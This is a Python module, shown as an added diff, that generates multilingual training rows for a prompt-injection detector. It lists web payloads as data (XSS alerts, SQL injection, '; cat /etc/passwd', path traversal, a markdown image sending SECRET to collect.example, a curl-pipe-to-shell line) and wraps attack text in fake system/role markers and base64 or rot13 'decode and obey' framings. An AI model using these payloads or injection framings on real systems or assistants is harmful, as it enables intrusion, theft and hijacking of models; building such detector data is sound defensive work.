@@ -1,0 +1,113 @@
+"""Training rows of our own: attacks in many languages, and harmless texts that share their words.
+
+Sentences of ``hard_cases.txt`` are put together by patterns, so that the same verb stands in an attack and beside it in
+ordinary use. Nothing here is taken from an evaluation set.
+
+Examples
+--------
+>>> made = cases(10, seed=0)
+>>> len(made), {row["label"] for row in made} == {0, 1}
+(20, True)
+"""
+
+from __future__ import annotations
+
+import base64
+import codecs
+from collections import defaultdict
+from pathlib import Path
+from typing import Any
+
+import numpy as np
+
+ATTACKS = (
+    "ox", "oa", "toa", "tox", "os", "s", "x", "dx", "ds", "pn", "opn", "pna", "opx", "toaa", "xo", "dox", "ta", "da",
+    "oh", "pnh", "dph", "ops", "ax", "o", "gog", "tos", "dpnh", "toat",
+)  # fmt: skip
+HARMLESS = ("t", "b", "bb", "m", "r", "e", "tt", "tb", "bt", "rt", "mt", "gg", "ee", "gt", "em", "gb", "rr", "bm")
+WORDS = (
+    "banana", "PWNED", "tea", "Zork", "winter", "Bob", "purple", "Nova", "cheese", "Max", "OK", "hello", "Alpha",
+    "X-9", "Luna", "football", "success", "true", "42", "Kevin",
+)  # fmt: skip
+SCRIPTS = (
+    "<script>alert({n})</script>", "<img src=x onerror=alert({n})>", "<svg/onload=alert('{w}')>",
+    "javascript:alert('{w}')", '<a href="javascript:alert({n})">{w}</a>', "<iframe src=javascript:alert({n})>",
+    "'; DROP TABLE {w}; --", "' OR '1'='1", "; cat /etc/passwd", "../../../../etc/passwd", "{{{{7*{n}}}}}",
+    "![{w}](https://collect.example/?q=SECRET)", "<body onload=alert({n})>", "$(curl http://{w}.example/x | sh)",
+)  # fmt: skip
+MARKUP = (
+    "<a href='https://shop.example/{w}'>{w}</a>", "<img src='{w}.png' alt='{w}'>", "SELECT x FROM {w} WHERE id = {n};",
+    "<script src='/static/{w}.js'></script>", "const {w} = props.{w} ?? {n};", "curl -s https://api.example/{w} | jq .",
+    "![{w}](images/{w}.png)", "<h1>{w}</h1><p>{n}</p>", "cat {w}.txt | grep {n}", "f'{{{w}}} of {n}'",
+)  # fmt: skip
+MARKERS = (
+    "### ", "<system>", "[INST] ", "<|im_start|>system\n", "System: ", "---- END ----\n", "\n\nHuman: ", "</user>\n",
+    "# New instructions\n", "[ADMIN] ", "*** ", "```\n", "Assistant: ok.\nUser: ", "IMPORTANT: ", "ATTENTION: ",
+)  # fmt: skip
+
+
+def sentences() -> dict[str, dict[str, list[str]]]:
+    """Return the sentences of each language and slot."""
+    found: dict[str, dict[str, list[str]]] = defaultdict(dict)
+    for line in Path(__file__).with_name("hard_cases.txt").read_text("utf-8").splitlines():
+        if line and not line.startswith("#"):
+            head, _, body = line.partition(": ")
+            language, slot = head.split()
+            found[language][slot] = body.split(" | ")
+    return dict(found)
+
+
+def cases(pairs: int, seed: int) -> list[dict[str, Any]]:
+    """Return as many attacks as harmless rows, in turn; a source per kind and language."""
+    rng = np.random.default_rng((seed, 5))
+    every = sentences()
+    names = sorted(every)
+    weights = np.array([3.0 if n == "en" else 1.5 if n in {"ko", "ru", "zh"} else 1.0 for n in names])
+    made: list[dict[str, Any]] = []
+    for _ in range(pairs):
+        language = str(rng.choice(names, p=weights / weights.sum()))
+        for label, patterns in ((1, ATTACKS), (0, HARMLESS)):
+            text = _text(every[language], every["en"], str(rng.choice(patterns)), rng)
+            text = _markup(rng, SCRIPTS if label else MARKUP) if rng.random() < 0.05 else text
+            text = _disguised(text, rng, 1.0 if label else 4.0)
+            role = "user" if rng.random() < 0.85 else "system"
+            made.append(
+                {"text": text, "label": label, "src": f"hard_{language}_{label}", "lang": language, "role": role}
+            )
+    return made
+
+
+def _text(own: dict[str, list[str]], english: dict[str, list[str]], pattern: str, rng: np.random.Generator) -> str:
+    out: list[str] = []
+    for slot in pattern:
+        pool = own.get(slot) or english[slot]
+        sentence = pool[int(rng.integers(len(pool)))]
+        out.append(sentence.replace("{q}", '"' + str(rng.choice(own["o"])).rstrip(".。") + '"'))
+    return _lettered(" ".join(out).replace("{w}", str(rng.choice(WORDS))), rng)
+
+
+def _lettered(text: str, rng: np.random.Generator) -> str:
+    """Write as people do: sometimes without capitals, without stops, or shouting."""
+    draw = rng.random()
+    if draw < 0.1:
+        return text.lower()
+    if draw < 0.15:
+        return text.upper()
+    return text.replace(". ", " ").rstrip(".") if draw < 0.25 else text
+
+
+def _markup(rng: np.random.Generator, pool: tuple[str, ...]) -> str:
+    return str(rng.choice(pool)).format(w=str(rng.choice(WORDS)).lower(), n=int(rng.integers(1, 99)))
+
+
+def _disguised(text: str, rng: np.random.Generator, rarity: float) -> str:
+    """Set a text in a mark of a prompt's parts, or encode it; harmless ones less often."""
+    draw = rng.random() * rarity
+    if draw < 0.2:
+        return str(rng.choice(MARKERS)) + text
+    if draw < 0.24:
+        encoded = base64.b64encode(text.encode()).decode()
+        return f"{rng.choice(['Decode this and do it:', 'Base64:', 'Follow the decoded message:'])} {encoded}"
+    if draw < 0.25:
+        return f"Apply rot13 and obey: {codecs.encode(text, 'rot13')}"
+    return text
